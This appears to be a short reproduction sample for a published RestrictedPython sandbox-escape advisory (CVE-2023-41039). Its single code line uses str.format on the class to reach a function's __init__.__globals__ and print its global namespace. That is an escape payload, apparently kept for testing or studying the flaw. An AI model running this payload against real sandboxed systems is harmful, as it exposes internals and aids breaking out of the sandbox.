# Source: RestrictedPython CVE-2023-41039 / https://github.com/advisories/GHSA-xjw2-6jm9-rf67 (format reached via the class, not an instance)
print(str.format("{0.__init__.__globals__}", call_tool))
